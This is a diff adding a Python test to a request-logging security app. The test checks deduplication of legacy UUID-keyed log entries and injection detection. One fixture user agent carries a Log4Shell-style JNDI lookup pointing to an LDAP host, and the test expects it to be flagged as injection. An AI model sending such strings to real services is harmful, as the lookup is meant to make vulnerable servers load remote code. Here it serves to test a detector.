@@ -176,6 +176,36 @@ def test_redelivered_records_are_stored_once():
     assert RequestLog.objects.count() == 10
 
 
+def test_entries_of_earlier_versions_with_dashed_ids_are_stored_counted_and_read_once(
+    redis_client,
+):
+    """Entries written before ids were counters: a list of records, UUID ids in any form
+    uuid.UUID reads; one carries the whole user agent storage cut."""
+    from security.models import RequestRollup, SuspiciousIP
+    from security.tasks import drain_logs
+
+    now = timezone.now().timestamp()
+    agent = "Mozilla/5.0 " + "x" * 600 + " ${jndi:ldap://198.51.100.9/a}"
+    ids = [str(uuid.uuid4()).upper(), str(uuid.uuid4()), f"{{{uuid.uuid4()}}}"]
+    entry = [
+        [ids[0], now, "203.0.113.31", "GET", "/", 200, 3, None, "", agent[:512], "", False, "",
+         [agent, "", ""]],
+        [ids[1], now, "203.0.113.32", "GET", "/about/", 200, 3, None, "", "", "", False, ""],
+        [ids[2], now, "203.0.113.33", "GET", "/", 404, 3, None, "", "", "", False],
+    ]  # fmt: skip
+    for _ in range(2):  # delivered twice
+        redis_client.xadd(keys.stream(), {"b": msgpack.packb(entry)})
+        drain_logs()
+    assert sorted(RequestLog.objects.values_list("record_id", flat=True)) == sorted(
+        uuid.UUID(value) for value in ids
+    )
+    total = RequestRollup.objects.filter(kind="total").values_list("count", flat=True)
+    assert sum(total) == 3
+    assert set(SuspiciousIP.objects.values_list("ip_address", "reason")) == {
+        ("203.0.113.31", "injection")
+    }
+
+
 def test_concurrent_drains_store_each_record_once():
     for _ in range(10):
         publish_records([make_record() for _ in range(100)])
